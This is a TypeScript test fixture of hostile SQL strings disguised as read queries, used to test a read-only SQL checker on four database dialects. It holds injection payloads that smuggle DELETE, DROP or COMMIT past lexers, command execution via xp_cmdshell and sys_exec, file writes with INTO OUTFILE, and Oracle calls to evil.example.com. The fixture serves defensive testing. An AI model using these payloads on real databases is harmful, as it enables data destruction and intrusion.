/**
 * Hostile READ snippets: SQL that claims to be a read and tries to change something, written
 * to make our lexer and the server's disagree (quoting and comment tricks, statements
 * without ";", CTE writes, side-effect functions, SELECT … INTO, transaction control,
 * backslash tricks, look-alike characters). Each is the SQL as sent for one dialect (what a
 * snippet section renders to). Used by test/unit/db.readOnlySql.test.ts (all four dialects)
 * and test/integration/hostile.sql.test.ts (real PostgreSQL, MariaDB and PGlite, where the
 * fixture tables are compared before and after).
 *
 * Tables: app_user, cwd_user and "AO_ED669C_TOTP_USER_ENROLLMENT" from dbFixtures.ts;
 * victim_seq is a sequence the integration test creates (PostgreSQL, MariaDB).
 * Benign reads that look alike are in BENIGN_READS: they must run.
 */
import type { Dialect } from '../../src/core/db/types';

export interface HostileRead {
  sql: string;
  /**
   * The server's read-only transaction alone would let it through (a session killed, a lock
   * kept after rollback, a file written, a sequence advanced): only our check stops it, so
   * the integration test does not send it to the server without the check.
   */
  checkOnly?: boolean | Dialect[];
}

const h = (sql: string, checkOnly: boolean | Dialect[] = false): HostileRead => ({ sql, checkOnly });

/** MySQL/MariaDB commit before DDL (an implicit commit ends the READ ONLY transaction). */
const DDL_COMMITS: Dialect[] = ['mysql'];

/** Whether only our check stops `read` on `dialect`. */
export function onlyCheckStops(read: HostileRead, dialect: Dialect): boolean {
  return read.checkOnly === true || (Array.isArray(read.checkOnly) && read.checkOnly.includes(dialect));
}

/** Tricks that mean the same on every dialect. */
const COMMON: HostileRead[] = [
  h('SELECT COUNT(*) AS n FROM app_user; DELETE FROM app_user'),
  h('SELECT 1 AS x FROM app_user; COMMIT; DELETE FROM app_user'),
  h('SELECT 1 AS x FROM app_user;;; DELETE FROM app_user'),
  h('SELECT 1 AS x FROM app_user; ROLLBACK; DELETE FROM app_user'),
  h('DELETE FROM app_user'),
  h("UPDATE app_user SET user_key = 'x'"),
  h('INSERT INTO app_user (id) VALUES (999)'),
  h('/* a read */ DELETE FROM app_user'),
  h('(DELETE FROM app_user)'),
  h('TRUNCATE TABLE app_user', DDL_COMMITS),
  h('DROP TABLE app_user', DDL_COMMITS),
  h('CREATE TABLE j2fa_evil (a INT)', DDL_COMMITS),
  h('ALTER TABLE app_user ADD j2fa_evil INT', DDL_COMMITS),
  h('GRANT SELECT ON app_user TO PUBLIC', DDL_COMMITS),
  h('BEGIN; DELETE FROM app_user; COMMIT'),
  h('COMMIT'),
  h('SELECT * INTO j2fa_copy FROM app_user'),
  h('SELECT id FROM app_user FOR UPDATE'),
  h('WITH d AS (DELETE FROM app_user RETURNING id) SELECT COUNT(*) AS n FROM d'),
  h('SELECT 1 AS x /* ; */ ; DELETE FROM app_user'),
  h('SELECT 1 AS x -- a comment\n; DELETE FROM app_user'),
  h('SELECT 1 AS x -- a comment\r DELETE FROM app_user'),
  h('SELECT 1 AS x -- a comment\u2028DELETE FROM app_user'),
  h('SELECT 1 AS x -- a comment\u0085DELETE FROM app_user'),
  h('SELECT 1 AS x\u00a0; DELETE FROM app_user'),
  h('SELECT 1 AS x\u037e DELETE FROM app_user'), // Greek question mark, looks like ;
  h('SELECT 1 AS x \uff24\uff25\uff2c\uff25\uff34\uff25 FROM app_user'), // fullwidth DELETE
  h('\u0455ELECT 1 AS x FROM app_user'), // Cyrillic s
  h('SELECT 1 AS x\u0000; DELETE FROM app_user'),
  h('SELECT 1 AS x\u000b; DELETE FROM app_user'),
  h("SELECT 'unterminated FROM app_user"),
  h('SELECT 1 AS x FROM app_user /* unterminated'),
  h('SELECT 1 AS x UNION SELECT 2; DROP TABLE app_user'),
  h('SELECT 1 AS x SELECT 2 AS y'),
  h('SELECT 1 AS x WITH c AS (SELECT 1 AS y) SELECT y FROM c'),
  h('SELECT 1 AS x DELETE FROM app_user'),
  h('CALL j2fa_proc()'),
  h('EXECUTE j2fa_stmt'),
  h('SELECT id FROM app_user WHERE id IN (SELECT id FROM app_user); UPDATE app_user SET id = id'),
  h("SELECT 'a''; DELETE FROM app_user; --' AS x FROM app_user; DELETE FROM app_user"),
  h('MERGE INTO app_user t USING cwd_user s ON (t.id = s.id) WHEN MATCHED THEN DELETE'),
  h('SELECT 1 AS x FROM app_user WHERE 1 = 1 LOCK TABLE app_user'),
];

const POSTGRES: HostileRead[] = [
  // The reported hole: E'\'' ends after the escaped quote, so COMMIT and DELETE are statements.
  h(`SELECT COUNT(*) AS "n", E'\\''; COMMIT; DELETE FROM app_user; --' AS "note" FROM app_user`),
  h(`SELECT COUNT(*) AS "n", e'\\''; COMMIT; DELETE FROM app_user; --' AS "note" FROM app_user`),
  h(`SELECT E'\\\\'; DELETE FROM app_user; --' AS x`),
  h(`SELECT 'a\\'; DELETE FROM app_user; --' AS x`), // a plain string ends at the 2nd quote (standard_conforming_strings on)
  h(`SELECT U&'\\0061'; DELETE FROM app_user; --' AS x`),
  h(`SELECT \u00e9E'\\'; DELETE FROM app_user; --' AS x`), // éE is a name to PostgreSQL, not an E prefix
  h(`SELECT 1E'\\'; DELETE FROM app_user; --' AS x`),
  h(`SELECT xE'\\'; DELETE FROM app_user; --' AS x`),
  h('SELECT $$;$$ AS a; DELETE FROM app_user'),
  h('SELECT $a$ $$ $a$ AS a; DELETE FROM app_user'),
  h('SELECT $\u00e9$ x $\u00e9$ AS a; DELETE FROM app_user'),
  h('SELECT 1$$ \' $$ AS a; DELETE FROM app_user'),
  h('SELECT 1 AS x /* /* */ */ ; DELETE FROM app_user'),
  h('SELECT 1 AS x -- a comment\rDELETE FROM app_user'),
  h('WITH u AS (UPDATE app_user SET user_key = \'x\' RETURNING id) SELECT COUNT(*) AS n FROM u'),
  h('WITH i AS (INSERT INTO app_user (id) VALUES (999) RETURNING id) SELECT COUNT(*) AS n FROM i'),
  h('WITH RECURSIVE d AS (DELETE FROM app_user RETURNING id) SELECT 1 AS x'),
  h('SELECT id FROM app_user FOR NO KEY UPDATE'),
  h('SELECT id FROM app_user FOR KEY SHARE'),
  h('SELECT id FROM app_user FOR SHARE'),
  h("SELECT set_config('transaction_read_only', 'off', false)"),
  h("SELECT pg_catalog.set_config('search_path', 'j2fa_evil', false)", true),
  h(`SELECT "set_config"('search_path', 'j2fa_evil', false)`, true),
  h("SELECT nextval('victim_seq')"),
  h("SELECT setval('victim_seq', 100)"),
  h("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'j2fa-bystander'", true),
  h("SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE application_name = 'j2fa-bystander'", true),
  h('SELECT pg_advisory_lock(4242)', true),
  h('SELECT pg_try_advisory_lock(4242)', true),
  h("SELECT pg_notify('j2fa', 'x')"),
  h("SELECT lo_from_bytea(0, 'x'::bytea)"),
  h("SELECT lo_import('/etc/hostname')"),
  h("SELECT dblink_exec('dbname=test', 'DELETE FROM app_user')"),
  h("SELECT query_to_xml('DELETE FROM app_user RETURNING 1', true, true, '')"),
  h('SELECT pg_stat_reset()', true),
  h('COPY app_user TO STDOUT'),
  h("DO $$BEGIN DELETE FROM app_user; END$$"),
  h('SELECT 1 AS x; SET transaction_read_only = off; DELETE FROM app_user'),
  h('SELECT $1 AS x'),
  h('SELECT 1 AS x\rDELETE FROM app_user'),
];

const MYSQL: HostileRead[] = [
  h(`SELECT 'a\\'; DELETE FROM app_user; -- ' AS x`),
  h(`SELECT "a\\"; DELETE FROM app_user; -- " AS x`),
  h(`SELECT _utf8mb4'\\''; DELETE FROM app_user; -- ' AS x`),
  h(`SELECT N'\\'; DELETE FROM app_user; -- ' AS x`),
  h(`SELECT 'a' '\\''; DELETE FROM app_user; -- ' AS x`),
  h('SELECT 1 AS x --1; DELETE FROM app_user'),
  h("SELECT 2 --1 INTO OUTFILE '/tmp/j2fa-outfile.txt'", true),
  h('SELECT 1 AS x # a comment\n; DELETE FROM app_user'),
  h('SELECT 1 AS x /*! ; DELETE FROM app_user */'),
  h('SELECT 1 AS x /*!50000 INTO @j2fa */', true),
  h('SELECT 1 AS x /*M!100000 , (SELECT COUNT(*) FROM app_user FOR UPDATE) */', true),
  h('SELECT 1 AS x /* /* */ DELETE FROM app_user */'),
  h("SELECT * FROM app_user INTO OUTFILE '/tmp/j2fa-outfile.txt'", true),
  h("SELECT * FROM app_user INTO DUMPFILE '/tmp/j2fa-dumpfile.txt'", true),
  h('SELECT id INTO @j2fa FROM app_user LIMIT 1', true),
  h('SELECT id FROM app_user WHERE 1 = 1 INTO @j2fa', true),
  h('SELECT @j2fa := id FROM app_user', true),
  h('SELECT id FROM app_user LOCK IN SHARE MODE', true),
  h('SELECT id FROM app_user FOR SHARE', true),
  h("SELECT GET_LOCK('j2fa', 0) AS x", true),
  h("SELECT RELEASE_ALL_LOCKS() AS x", true),
  h('SELECT NEXTVAL(victim_seq) AS x', true),
  h('SELECT NEXT VALUE FOR victim_seq AS x', true),
  h('SELECT SETVAL(victim_seq, 100) AS x', true),
  h('SELECT `x`; DELETE FROM app_user'),
  h("SELECT sys_exec('id') AS x", true),
  h('HANDLER app_user OPEN', true),
  h('DO (SELECT COUNT(*) FROM app_user)'),
  h('SELECT 1 AS x FROM app_user WHERE id = ?'),
  h('SELECT 1 AS x -- a comment\r; DELETE FROM app_user'),
  h("SELECT x'27'; DELETE FROM app_user"),
  h('REPLACE INTO app_user (id) VALUES (1)'),
];

const MSSQL: HostileRead[] = [
  h('SELECT 1 AS x COMMIT DELETE FROM app_user'),
  h("SELECT 1 AS x EXEC xp_cmdshell 'dir'"),
  h("SELECT 1 AS x EXECUTE ('DELETE FROM app_user')"),
  h('SELECT [a]]] ; DELETE FROM app_user'),
  h('SELECT [a] ]; DELETE FROM app_user --]'),
  h("SELECT N'a''' DELETE FROM app_user"),
  h('SELECT "a""" DELETE FROM app_user'),
  h("SELECT 1 AS x WAITFOR DELAY '0:0:5'"),
  h("SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;', 'DELETE FROM app_user')"),
  h("SELECT * FROM OPENQUERY(linked, 'DELETE FROM app_user')"),
  h("SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').db.dbo.t"),
  h('SELECT * INTO #t FROM app_user'),
  h('SELECT 1 AS x /* /* */ */ DELETE FROM app_user'),
  h('SELECT 1 AS x BEGIN TRAN DELETE FROM app_user COMMIT'),
  h('SELECT 1 AS x DECLARE @x INT'),
  h('SELECT 1 AS x SET NOCOUNT ON'),
  h('SELECT 1 AS x IF 1 = 1 DELETE FROM app_user'),
  h('SELECT 1 AS x TRUNCATE TABLE app_user'),
  h('SELECT 1 AS x UPDATE app_user SET id = id'),
  h('SELECT NEXT VALUE FOR dbo.victim_seq AS x'),
  h("SELECT 1 AS x sp_configure 'xp_cmdshell', 1"),
  h('SELECT 1 AS x KILL 52'),
  h('SELECT 1 AS x DBCC CHECKDB'),
  h('SELECT 1 AS x RECONFIGURE'),
  h('SELECT 1 AS x SHUTDOWN'),
  h('SELECT 1 AS x USE master'),
  h('SELECT 1 AS x ;WITH c AS (SELECT 1 AS y) SELECT y FROM c'),
  h("SELECT @@VERSION AS x PRINT 'x'"),
  h("SELECT 1 AS x RAISERROR('x', 16, 1)"),
  h('SELECT 1 AS x SAVE TRAN s'),
  h('SELECT 1 AS x ROLLBACK TRAN'),
  h("SELECT 1 AS x BULK INSERT app_user FROM 'c:\\x.csv'"),
  h('SELECT 1 AS x OPEN c'),
  h('SELECT 1 AS x\u3000DELETE FROM app_user'),
  h('SELECT 1 AS x FROM app_user WITH (NOLOCK) DELETE FROM app_user'),
  h("SELECT 1 AS x [xp_cmdshell] 'dir'"),
  h('SELECT 1 AS x GOTO l'),
  h('SELECT 1 AS x WHILE 1 = 1 SELECT 1'),
  h("SELECT 1 AS x THROW 50000, 'x', 1"),
  h('SELECT 1 AS x GRANT CONTROL TO public'),
  h('SELECT 1 AS x DENY SELECT ON app_user TO public'),
  h("SELECT 1 AS x WRITETEXT app_user.c @p 'x'"),
  h('SELECT 1 AS x ADD SIGNATURE TO dbo.p BY CERTIFICATE c'),
  h("SELECT 1 AS x ADD SENSITIVITY CLASSIFICATION TO app_user.id WITH (LABEL = 'x')"),
];

const ORACLE: HostileRead[] = [
  h("SELECT q'[']' AS x FROM dual; DELETE FROM app_user"),
  h("SELECT nq'[it's]' AS x, ''; DELETE FROM app_user; --' FROM dual"),
  h("SELECT NQ'!x!' AS x FROM dual; COMMIT"),
  h("SELECT q'<a>' AS x FROM app_user FOR UPDATE"),
  h("SELECT x#q'[a' AS y FROM dual; DELETE FROM app_user; --]' FROM dual"),
  h("SELECT q'x' FROM dual"),
  h('WITH FUNCTION f RETURN NUMBER IS PRAGMA AUTONOMOUS_TRANSACTION; BEGIN DELETE FROM app_user; COMMIT; RETURN 1; END; SELECT f FROM dual'),
  h("SELECT dbms_pipe.send_message('x') AS x FROM dual"),
  h("SELECT utl_http.request('http://evil.example.com/') AS x FROM dual"),
  h("SELECT DBMS_XMLGEN.getxml('DELETE FROM app_user') AS x FROM dual"),
  h('SELECT "DBMS_LOCK".sleep(5) AS x FROM dual'),
  h("SELECT httpuritype('http://evil.example.com/').getclob() AS x FROM dual"),
  h("SELECT SYS.DBMS_EXPORT_EXTENSION.GET_DOMAIN_INDEX_TABLES('a', 'b') AS x FROM dual"),
  h('SELECT owa_util.get_cgi_env(\'x\') AS x FROM dual'),
  h('SELECT victim_seq.NEXTVAL AS x FROM dual'),
  h('SELECT 1 INTO x FROM dual'),
  h('SELECT id FROM app_user FOR UPDATE NOWAIT'),
  h('BEGIN DELETE FROM app_user; END;'),
  h('DECLARE x NUMBER; BEGIN NULL; END;'),
  h('LOCK TABLE app_user IN EXCLUSIVE MODE'),
  h('SELECT 1 AS x FROM dual; ALTER SESSION SET CURRENT_SCHEMA = x'),
  h('EXPLAIN PLAN FOR SELECT 1 FROM dual'),
  h('INSERT ALL INTO app_user (id) VALUES (1) SELECT * FROM dual'),
  h('SELECT 1 AS x FROM dual -- a comment\rDELETE FROM app_user'),
  h('SELECT 1 AS x FROM dual /* ; */; DELETE FROM app_user'),
  h('SELECT 1 AS x FROM dual /* /* */ DELETE FROM app_user */'),
  h('SELECT 1 AS x FROM dual SET TRANSACTION READ WRITE'),
  h('SELECT 1 AS x FROM dual FLASHBACK TABLE app_user TO BEFORE DROP'),
  h('SELECT 1 AS x FROM dual PURGE RECYCLEBIN'),
];

export const HOSTILE_READS: Record<Dialect, HostileRead[]> = {
  postgres: [...COMMON, ...POSTGRES],
  mysql: [...COMMON, ...MYSQL],
  mssql: [...COMMON, ...MSSQL],
  oracle: [...COMMON, ...ORACLE],
};

/** Reads that look hostile and are not: every dialect must run them (or its own list). */
const BENIGN_COMMON = [
  "SELECT 'a''; DELETE FROM app_user; --' AS x FROM app_user",
  'SELECT 1 AS x /* DELETE FROM app_user; COMMIT */ FROM app_user',
  'SELECT 1 AS x -- ; DELETE FROM app_user\nFROM app_user',
  'SELECT id AS "UPDATE", user_key AS "delete" FROM app_user',
  'SELECT id FROM app_user UNION ALL SELECT id FROM cwd_user',
  'SELECT id FROM app_user UNION SELECT id FROM cwd_user;',
  'WITH c AS (SELECT id FROM app_user) SELECT COUNT(*) AS n FROM c',
  "SELECT COUNT(*) AS n FROM app_user WHERE lower_user_name = 'o''brien'",
  "SELECT 'z\u00f6e \ud83d\ude00' AS x FROM app_user",
  "SELECT id FROM app_user\r\nWHERE id > 0",
];

export const BENIGN_READS: Record<Dialect, string[]> = {
  postgres: [
    ...BENIGN_COMMON,
    'SELECT $$; DELETE FROM app_user$$ AS x',
    'SELECT $t$ $$ ; $t$ AS x',
    'SELECT 1 AS x /* /* ; */ DELETE */',
    "SELECT id::text AS x FROM app_user WHERE id = ANY (ARRAY[1, 2])",
    'SELECT id FROM app_user ORDER BY id LIMIT 1 OFFSET 0',
  ],
  mysql: [
    ...BENIGN_COMMON,
    "SELECT 'it''s; DELETE' AS x",
    'SELECT 2 - -1 AS x',
    'SELECT 1 AS x # ; DELETE FROM app_user\nFROM app_user',
    'SELECT id, COUNT(*) AS n FROM app_user GROUP BY id WITH ROLLUP',
    "SELECT CAST('x' AS CHAR CHARACTER SET utf8mb4) AS x",
  ],
  mssql: [
    ...BENIGN_COMMON,
    'SELECT [a]]; DELETE FROM app_user --] FROM app_user',
    "SELECT N'''; DELETE FROM app_user --' AS x",
    'SELECT 1 AS x /* /* */ DELETE FROM app_user */',
    'SELECT TOP (5) WITH TIES id FROM app_user WITH (NOLOCK) ORDER BY id',
    'SELECT id FROM app_user ORDER BY id OFFSET 0 ROWS FETCH NEXT 5 ROWS ONLY',
    'SELECT @@VERSION AS v, @@SPID AS spid',
  ],
  oracle: [
    ...BENIGN_COMMON,
    "SELECT q'[it's; DELETE]' AS x FROM dual",
    "SELECT nq'{x}' AS x FROM dual",
    "SELECT SYS_CONTEXT('USERENV', 'SID') FROM DUAL",
    'SELECT id FROM app_user CONNECT BY PRIOR id = id START WITH id = 1',
    'SELECT id FROM app_user ORDER BY id OFFSET 0 ROWS FETCH NEXT 5 ROWS ONLY',
  ],
};
